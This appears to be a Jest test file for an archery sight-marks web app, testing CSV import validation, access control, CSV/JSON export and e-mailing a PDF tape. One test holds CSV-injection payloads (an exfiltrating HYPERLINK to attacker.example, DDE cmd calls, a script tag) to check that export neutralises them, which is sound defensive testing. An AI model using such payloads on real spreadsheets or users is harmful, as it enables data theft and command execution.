/**
 * CSV in and out: importing marks into a sight-in (preview with per-row
 * problems, then all or nothing), exporting a bow's builds, sight-ins and marks
 * as CSV (formula injection neutralised, OWASP "CSV Injection") and JSON, and
 * sending a tape's print sheet as a PDF attachment through the fake SMTP service.
 */
import request from 'supertest';
import { config } from '@/server/config';
import { parseCsv } from '@/server/csv';
import { waitForMail } from '@/server/mail/mail-store';
import { AuditEntry, SightInMark, User } from '@/server/models';
import { CSRF, closeDb, signedInAgent, testApp, uniqueEmail } from '../helpers/api';
import { bowWithSightIn, knownMarks, knownSight } from './bow-fixtures';

const app = testApp();
// Many requests per test on a shared 2-core machine (bcrypt at cost 12, PDF drawing).
jest.setTimeout(30_000);
afterAll(closeDb);

/** Readings from the fixtures' known sight, so imported marks fit with the stored ones. */
const yd = (distance: number) => knownMarks([distance])[0].scaleMm;
const metres = (distance: number) => knownMarks([distance], { ...knownSight, distanceUnit: 'm' })[0].scaleMm;

async function archerWithSightIn() {
  const archer = await signedInAgent(app, { name: 'Hale Brightwater' });
  const made = await bowWithSightIn(archer.agent, [20, 40, 60]);
  return { ...archer, ...made };
}

const importPath = (sightInId: number, dryRun: boolean) => `/api/sight-ins/${sightInId}/marks/import${dryRun ? '?dryRun=1' : ''}`;

describe('importing marks from CSV', () => {
  it('previews good rows without saving, then adds them all and refits', async () => {
    const { agent, sightIn } = await archerWithSightIn();
    const csv = [
      'Distance,Reading (mm),Arrows,Note,Unit',
      `30,${yd(30)},3,"calm, overcast",yd`,
      `50 yd,"${String(yd(50)).replace('.', ',')}",,,`,
      `45,${metres(45)},4,metric lane,m`,
    ].join('\r\n');

    const preview = await agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv });
    expect(preview.status).toBe(200);
    expect(preview.body).toMatchObject({ dryRun: true, saved: false, okCount: 3, errorCount: 0, fileProblem: null });
    expect(preview.body.rows.map((r: { line: number }) => r.line)).toEqual([2, 3, 4]);
    expect(preview.body.rows[0].mark).toEqual({ distance: 30, unit: 'yd', scaleMm: yd(30), arrowsShot: 3, note: 'calm, overcast' });
    // A decimal comma in a quoted field is read as a decimal point.
    expect(preview.body.rows[1].mark.scaleMm).toBeCloseTo(yd(50), 9);
    expect(preview.body.rows[2].mark).toMatchObject({ distance: 45, unit: 'm' });
    expect(await SightInMark.count({ where: { sightInId: sightIn.id } })).toBe(3);

    const saved = await agent.post(importPath(sightIn.id, false)).set(CSRF).send({ csv });
    expect(saved.status).toBe(201);
    expect(saved.body.saved).toBe(true);
    const after = (await agent.get(`/api/sight-ins/${sightIn.id}`)).body.sightIn;
    expect(after.marks.map((m: { distance: number; unit: string }) => `${m.distance} ${m.unit}`)).toEqual([
      '20 yd',
      '40 yd',
      '60 yd',
      '30 yd',
      '50 yd',
      '45 m',
    ]);
    expect(after.fit.residuals).toHaveLength(6);
  });

  it('reads a file without a header (distance, reading, arrows, note) and a text/csv body', async () => {
    const { agent, sightIn } = await archerWithSightIn();
    const res = await agent
      .post(`${importPath(sightIn.id, true)}&unit=yd`)
      .set(CSRF)
      .set('Content-Type', 'text/csv')
      .send(`30,${yd(30)}\n70,${yd(70)},5,long one\n`);
    expect(res.status).toBe(200);
    expect(
      res.body.rows.map((r: { mark: { distance: number; arrowsShot: number | null } }) => [r.mark.distance, r.mark.arrowsShot]),
    ).toEqual([
      [30, null],
      [70, 5],
    ]);
  });

  it('says what is wrong with each bad row in plain words, and saves none of the file', async () => {
    const { agent, sightIn } = await archerWithSightIn();
    const csv = [
      'distance,reading,arrows,note',
      `30,${yd(30)},3,fine`, // line 2: good
      'thirty,12.5,,', // line 3
      '35,,,', // line 4
      '80,250,,', // line 5: reading out of range
      '40,25.1,,', // line 6: 40 yd is already in the sight-in
      `55,${yd(55)},three,`, // line 7
      `30,${yd(30)},,`, // line 8: 30 yd twice in the file
      `45 ft,${yd(45)},,`, // line 9
    ].join('\n');
    const preview = await agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv });
    expect(preview.status).toBe(200);
    const problems = Object.fromEntries(preview.body.rows.map((r: { line: number; problems: string[] }) => [r.line, r.problems]));
    expect(problems).toEqual({
      2: [],
      3: ['The distance “thirty” is not a number'],
      4: ['The scale reading is missing'],
      5: ['Scale reading must be at most 200 mm'],
      6: ['A mark at 40 yd is already in this sight-in'],
      7: ['Arrows shot “three” is not a whole number'],
      8: ['A mark at 30 yd is on line 2 of the file'],
      9: ['The distance unit “ft” is neither yd nor m'],
    });
    expect(preview.body).toMatchObject({ okCount: 1, errorCount: 7 });

    const refused = await agent.post(importPath(sightIn.id, false)).set(CSRF).send({ csv });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toBe('7 of 8 rows have problems; nothing was imported. Correct them and try again.');
    expect(refused.body.error.fields['rows.3']).toBe('The distance “thirty” is not a number');
    expect(await SightInMark.count({ where: { sightInId: sightIn.id } })).toBe(3);
  });

  it('names problems with the file as a whole', async () => {
    const { agent, sightIn } = await archerWithSightIn();
    const cases: [string, RegExp][] = [
      ['distance,reading\r\n"30,12.5\r\n', /not valid CSV: A quoted field that starts on line 2 is never closed/],
      ['yardage,sight\r\n30,12\r\n', /no distance or reading column/],
      ['distance,reading\r\n\r\n', /no rows of marks/],
      [
        ['distance,reading', ...Array.from({ length: 28 }, (_, i) => `${70 + i},${30 + i}`)].join('\n'),
        /has 3 marks and the file adds 28; a sight-in holds at most 30/,
      ],
    ];
    for (const [csv, problem] of cases) {
      const preview = await agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv });
      expect(preview.status).toBe(200);
      expect(preview.body.fileProblem).toMatch(problem);
      const refused = await agent.post(importPath(sightIn.id, false)).set(CSRF).send({ csv });
      expect(refused.status).toBe(400);
      expect(refused.body.error.fields.file).toMatch(problem);
    }
    expect(await SightInMark.count({ where: { sightInId: sightIn.id } })).toBe(3);
  });

  it('refuses files over 200 KB or 500 rows with a plain message', async () => {
    const { agent, sightIn } = await archerWithSightIn();
    const big = `distance,reading,arrows,note\n${`30,12.5,3,${'x'.repeat(190)}\n`.repeat(1100)}`;
    expect(Buffer.byteLength(big)).toBeGreaterThan(200 * 1024);
    const tooBig = await agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv: big });
    expect(tooBig.status).toBe(413);
    expect(tooBig.body.error).toEqual({
      code: 'file_too_large',
      message: expect.stringMatching(/^The file is \d+ KB; at most 200 KB can be imported at once/),
    });

    const many = `distance,reading\n${Array.from({ length: 501 }, (_, i) => `${i % 100},10`).join('\n')}`;
    const tooMany = await agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv: many });
    expect(tooMany.status).toBe(413);
    expect(tooMany.body.error).toEqual({
      code: 'too_many_rows',
      message: 'The file has 501 rows of marks; at most 500 can be imported at once.',
    });
  });

  it('keeps hostile notes as plain text and neutralises them in the exported CSV (OWASP CSV Injection)', async () => {
    const { agent, sightIn, bow } = await archerWithSightIn();
    const hostile = [
      '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|'/C calc'!A0",
      '\t=1+1',
      '<script>alert(1)</script>',
    ];
    const distances = [25, 35, 45, 55, 65, 75];
    const csv = [
      'distance,reading,note',
      ...hostile.map((note, i) => `${distances[i]},${yd(distances[i])},"${note.replace(/"/g, '""')}"`),
    ].join('\r\n');
    const res = await agent.post(importPath(sightIn.id, false)).set(CSRF).send({ csv });
    expect(res.status).toBe(201);
    const stored = (await agent.get(`/api/sight-ins/${sightIn.id}`)).body.sightIn.marks.slice(3).map((m: { note: string }) => m.note);
    // Notes are trimmed like typed ones; otherwise stored exactly as given.
    expect(stored).toEqual(hostile.map((note) => note.trim()));

    const exported = await agent.get(`/api/bows/${bow.id}/export.csv`);
    expect(exported.status).toBe(200);
    const rows = parseCsv(exported.text);
    const noteColumn = rows[0].indexOf('mark_note');
    const notes = rows
      .slice(1)
      .map((row) => row[noteColumn])
      .filter((note) => note !== '');
    for (const note of notes) expect(note).not.toMatch(/^[=+\-@\t\r]/);
    expect(notes).toEqual(expect.arrayContaining([`'${hostile[0]}`, `'${hostile[1]}`, "'-2+3", `'${hostile[3]}`, "'=1+1", hostile[5]]));
  });
});

describe('who may import', () => {
  it('lets a technician with an active share import (audited) and nobody else', async () => {
    const { agent, sightIn, bow } = await archerWithSightIn();
    const tech = await signedInAgent(app, { name: 'Import Technician' });
    await User.update({ role: 'tech' }, { where: { id: tech.user.id } });
    const csv = `distance,reading\n30,${yd(30)}`;
    expect((await tech.agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv })).status).toBe(404);

    const since = new Date();
    await agent.post(`/api/bows/${bow.id}/shares`).set(CSRF).send({ email: tech.email });
    const mail = await waitForMail(config.mailDir, tech.email, { since });
    const token = /token=([A-Za-z0-9_-]{43})/.exec(mail.text ?? '')![1];
    expect((await tech.agent.post('/api/invites/accept').set(CSRF).send({ token })).status).toBe(200);

    const res = await tech.agent.post(importPath(sightIn.id, false)).set(CSRF).send({ csv });
    expect(res.status).toBe(201);
    const entries = await AuditEntry.findAll({ where: { bowId: bow.id, actorId: tech.user.id, recordType: 'sight-in-mark' } });
    expect(entries.length).toBeGreaterThan(0);

    const stranger = await signedInAgent(app);
    expect((await stranger.agent.post(importPath(sightIn.id, true)).set(CSRF).send({ csv })).status).toBe(404);
    expect((await request(app).post(importPath(sightIn.id, true)).set(CSRF).send({ csv })).status).toBe(401);
  });
});

describe('exporting a bow', () => {
  it('gives builds, sight-ins and marks as one CSV table and as JSON, to the bow’s readers only', async () => {
    const { agent, bow, build, sightIn } = await archerWithSightIn();
    await agent
      .post(`/api/bows/${bow.id}/builds`)
      .set(CSRF)
      .send({ ...(await agent.get(`/api/builds/${build.id}`)).body.build, name: 'Spare build' });

    const csv = await agent.get(`/api/bows/${bow.id}/export.csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="?test-slider-export\.csv"?$/);
    const rows = parseCsv(csv.text);
    expect(rows[0].slice(0, 3)).toEqual(['bow', 'build_id', 'build']);
    expect(rows.every((row) => row.length === rows[0].length)).toBe(true);
    const col = (name: string) => rows[0].indexOf(name);
    const markRows = rows.slice(1).filter((row) => row[col('distance')] !== '');
    expect(markRows.map((row) => Number(row[col('distance')]))).toEqual([20, 40, 60]);
    expect(markRows.every((row) => row[col('sight_in_id')] === String(sightIn.id))).toBe(true);
    // The build without sight-ins still has its row.
    expect(rows.some((row) => row[col('build')] === 'Spare build' && row[col('sight_in_id')] === '')).toBe(true);

    const json = await agent.get(`/api/bows/${bow.id}/export.json`);
    expect(json.status).toBe(200);
    expect(json.headers['content-disposition']).toMatch(/^attachment; filename="?test-slider-export\.json"?$/);
    const document = JSON.parse(json.text);
    expect(document).toMatchObject({ format: 'pinwright-bow-export', version: 1, bow: { id: bow.id, nickname: 'Test slider' } });
    expect(document.builds.map((b: { name: string }) => b.name)).toEqual(['Test heavy', 'Spare build']);
    expect(document.sightIns[0].marks).toHaveLength(3);

    const stranger = await signedInAgent(app);
    expect((await stranger.agent.get(`/api/bows/${bow.id}/export.csv`)).status).toBe(404);
    expect((await stranger.agent.get(`/api/bows/${bow.id}/export.json`)).status).toBe(404);
  });
});

describe('sending a tape', () => {
  it('e-mails the print sheet as a PDF attachment', async () => {
    const { agent, sightIn, bow } = await archerWithSightIn();
    const to = uniqueEmail('printer');
    const since = new Date();
    const res = await agent.post(`/api/sight-ins/${sightIn.id}/send-tape`).set(CSRF).send({ to, paper: 'a4' });
    expect(res.status).toBe(200);
    expect(res.body.message).toContain(to);
    const mail = await waitForMail(config.mailDir, to, { since });
    expect(mail.subject).toBe(`Sight tape for ${bow.nickname} (2026-11-02)`);
    expect(mail.text).toMatch(/estimate until every distance/);
    expect(mail.attachments).toHaveLength(1);
    expect(mail.attachments[0]).toMatchObject({ contentType: 'application/pdf', filename: 'test-slider-2026-11-02-sheet.pdf' });
    const pdf = Buffer.from(mail.attachments[0].contentBase64, 'base64');
    // A PDF file starts with "%PDF-" (ISO 32000-1, 7.5.2 File Header).
    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(pdf.length).toBe(mail.attachments[0].sizeBytes);

    const bad = await agent.post(`/api/sight-ins/${sightIn.id}/send-tape`).set(CSRF).send({ to: 'nobody', paper: 'a4' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields.to).toBe('Enter a valid e-mail address');
    const stranger = await signedInAgent(app);
    expect((await stranger.agent.post(`/api/sight-ins/${sightIn.id}/send-tape`).set(CSRF).send({ to, paper: 'a4' })).status).toBe(404);
  });
});
